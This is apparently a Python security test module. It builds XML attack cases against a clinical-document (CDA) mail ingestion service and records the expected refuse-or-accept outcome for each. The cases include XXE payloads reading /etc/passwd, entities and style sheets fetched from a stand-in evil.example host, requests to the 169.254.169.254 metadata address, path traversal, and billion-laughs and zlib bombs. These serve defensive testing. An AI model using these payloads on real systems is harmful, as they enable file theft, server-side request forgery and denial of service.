"""XML that fetches, multiplies, nests or runs: in a CDA, in METADATA.XML, under other names and encodings."""

import base64
import io
import zipfile
import zlib

from tests.attacks import bridge
from tests.attacks.registry import Attack, Door
from tests.vectors import make_cda

LAUGHS = "Billion laughs, CVE-2003-1564 (CWE-776)"
XXE = "XML external entities, OWASP A4:2017 (CWE-611)"
DEEP = "Coercive parsing (CWE-674)"
XSLT = "XSLT by processing instruction or root (CWE-91); CVE-2014-5452: C-CDA style sheets that run scripts"
ENCODED = "XXE filters passed by other encodings (UTF-7, UTF-16, EBCDIC)"
SECRET = b"root:x:0:0"
PASSWD = "file:" + "///etc/passwd"
DECLARATION = b'<?xml version="1.0" encoding="UTF-8"?>'
CDA = make_cda.cda()
BODY = CDA.partition(b"?>")[2]


def _within(text: str) -> bytes:
    return make_cda.cda(make_cda.section(text))


def _doctype(subset: str, text: str = "&a;") -> bytes:
    """Return a CDA with an internal subset that its text uses."""
    return DECLARATION + f"<!DOCTYPE ClinicalDocument [{subset}]>".encode() + _within(text).partition(b"?>")[2]


def _recoded(codec: str, name: str = "") -> bytes:
    """Return a CDA with an external entity, in another encoding."""
    text = _doctype(f'<!ENTITY a SYSTEM "{PASSWD}">').partition(b"?>")[2].decode()
    return f'<?xml version="1.0" encoding="{name or codec}"?>{text}'.encode(codec)


def laughs(levels: int = 9) -> str:
    """Return entities that multiply by ten at each level."""
    inner = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, levels))
    return '<!ENTITY a0 "ha">' + inner + f'<!ENTITY a "&a{levels - 1};">'


def _deflated(size: int) -> str:
    engine = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    packed = base64.b64encode(engine.compress(b" " * size) + engine.flush()).decode()
    return (
        f'<nonXMLBody><text mediaType="text/plain" representation="B64" compression="DF">{packed}</text></nonXMLBody>'
    )


def _stored(document: bytes) -> bytes:
    """Return a mail with a CDA in a zip that does not deflate it: the caps of zips are not what is asked here."""
    folder, buffer = "IHE_XDM/SUBSET01/", io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as made:
        made.writestr(folder + "METADATA.XML", make_cda.metadata({"DOC0001.XML": document}))
        made.writestr(folder + "DOC0001.XML", document)
    return bridge.xdm(buffer.getvalue())


def _case(name: str, source: str, document: bytes, verdict: str, banned: tuple[bytes, ...] = ()) -> Attack:
    return Attack(f"xml: {name}", source, Door.MSSANTE, lambda: _stored(document), verdict, banned)


def _described(metadata: bytes) -> bytes:
    folder = "IHE_XDM/SUBSET01/"
    return bridge.xdm(make_cda.archive({folder + "METADATA.XML": metadata, folder + "DOC0001.XML": CDA}))


def _attributes(form: str, number: int) -> bytes:
    said = " ".join(form.format(n=n) for n in range(number))
    return _within(f"<content {said}>x</content>")


def styled(size: int) -> bytes:
    """Return tables inside tables inside lists: a narrative that could multiply its own width."""
    return _within("<list><item>" * 30 + "x" * size + "</item></list>" * 30)


ATTACKS = (
    _case("billion laughs", LAUGHS, _doctype(laughs()), "REFUSED cda.xml"),
    _case("quadratic blow-up", LAUGHS, _doctype(f'<!ENTITY a "{"a" * 100_000}">', "&a;" * 10_000), "REFUSED cda.xml"),
    _case("entities that name themselves", LAUGHS, _doctype('<!ENTITY a "&b;"><!ENTITY b "&a;">'), "REFUSED cda.xml"),
    _case(
        "parameter entities that multiply",
        LAUGHS,
        _doctype('<!ENTITY % a "x"><!ENTITY % b "%a;%a;">%b;', "x"),
        "REFUSED cda.xml",
    ),
    _case(
        "an external entity, a file",
        XXE,
        _doctype(f'<!ENTITY a SYSTEM "{PASSWD}">'),
        "REFUSED cda.doctype",
        (SECRET,),
    ),
    _case(
        "an external entity, the metadata service",
        XXE,
        _doctype('<!ENTITY a SYSTEM "http://169.254.169.254/latest/">'),
        "REFUSED cda.doctype",
    ),
    _case(
        "an external parameter entity",
        XXE,
        _doctype('<!ENTITY % a SYSTEM "http://evil.example/x.dtd">%a;', "x"),
        "REFUSED cda.doctype",
    ),
    _case(
        "an external DTD",
        XXE,
        DECLARATION + f'<!DOCTYPE ClinicalDocument SYSTEM "{PASSWD}">'.encode() + BODY,
        "REFUSED cda.doctype",
    ),
    _case(
        "a public DTD",
        XXE,
        DECLARATION + b'<!DOCTYPE ClinicalDocument PUBLIC "-//x//y" "http://evil.example/x">' + BODY,
        "REFUSED cda.doctype",
    ),
    _case(
        "a DOCTYPE that declares nothing",
        XXE,
        DECLARATION + b"<!DOCTYPE ClinicalDocument>" + BODY,
        "REFUSED cda.doctype",
    ),
    _case(
        "an attribute by default from a DTD",
        XXE,
        _doctype('<!ATTLIST family qualifier CDATA "SP">', "x"),
        "REFUSED cda.doctype",
    ),
    _case(
        "XInclude",
        "XInclude, CWE-829",
        _within(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{PASSWD}" parse="text"/>'),
        "READY",
        (SECRET,),
    ),
    _case(
        "a style sheet by processing instruction",
        XSLT,
        DECLARATION + b'<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>' + BODY,
        "READY",
        (b"evil.example/x.xsl\nx",),
    ),
    _case(
        "a style sheet around the document that reads files",
        XSLT,
        make_cda.self_presenting(CDA).replace(
            b'match="/"/>', f'match="/"><xsl:copy-of select="document(\'{PASSWD}\')"/></xsl:template>'.encode()
        ),
        "READY",
        (SECRET,),
    ),
    _case(
        "a style sheet that includes another",
        XSLT,
        make_cda.self_presenting(CDA).replace(b"<d:data", b'<xsl:import href="http://evil.example/x"/><d:data'),
        "READY",
    ),
    _case("UTF-16 with BOM", ENCODED, _recoded("utf-16"), "REFUSED cda.doctype", (SECRET,)),
    _case("UTF-16 without BOM", ENCODED, _recoded("utf-16-le", "utf-16"), "REFUSED cda.doctype", (SECRET,)),
    _case("UTF-7", ENCODED, _recoded("utf-7"), "REFUSED cda.doctype", (SECRET,)),
    _case("EBCDIC", ENCODED, _recoded("cp037", "ebcdic-cp-us"), "REFUSED cda.xml", (SECRET,)),
    _case("UTF-32", ENCODED, _recoded("utf-32"), "REFUSED cda.doctype", (SECRET,)),
    _case("a false encoding", ENCODED, CDA.replace(b"UTF-8", b"UTF-16"), "REFUSED cda.xml"),
    _case("bytes that are no UTF-8", ENCODED, CDA.replace(b"Aline", b"\xc0\xaf\xff"), "REFUSED cda.xml"),
    _case("20,000 elements deep", DEEP, _within("<content>" * 20_000 + "</content>" * 20_000), "REFUSED cda.xml"),
    _case("120 elements deep", DEEP, _within("<content>" * 120 + "</content>" * 120), "REFUSED cda.depth"),
    _case("400,001 tags", DEEP, _within("<br/>" * 400_001), "REFUSED cda.size"),
    _case(
        "200,000 attributes",
        "CWE-400; hash collisions, oCERT-2011-003",
        _attributes('a{n}=""', 200_000),
        "READY",
    ),
    _case("a name of 1 MB", DEEP, _within(f"<{'a' * 1_000_000}/>"), "READY"),
    _case(
        "10,000 namespaces",
        DEEP,
        _attributes('xmlns:a{n}="u:{n}"', 10_000),
        "READY",
    ),
    _case("a control character by reference", "XML 1.0 §2.2", _within("&#0;"), "REFUSED cda.xml"),
    _case("a zlib bomb as nonXMLBody", "CWE-409", make_cda.cda(_deflated(200_000_000)), "REFUSED cda.media"),
    _case("a narrative that indents 30 times", DEEP, styled(1_000_000), "READY"),
    Attack(
        "xml: billion laughs in METADATA.XML",
        LAUGHS,
        Door.MSSANTE,
        lambda: _described(f"<!DOCTYPE a [{laughs()}]>".encode() + make_cda.metadata({"DOC0001.XML": CDA})),
        "REFUSED metadata.doctype",
    ),
    Attack(
        "xml: METADATA.XML that leads out of the zip",
        "CWE-22",
        Door.MSSANTE,
        lambda: _described(make_cda.metadata({"../../etc/passwd": CDA})),
        "REFUSED xdm.uri",
    ),
    Attack(
        "xml: METADATA.XML that names an address",
        "CWE-918",
        Door.MSSANTE,
        lambda: _described(make_cda.metadata({"http://169.254.169.254/": CDA})),
        "REFUSED xdm.uri",
    ),
)
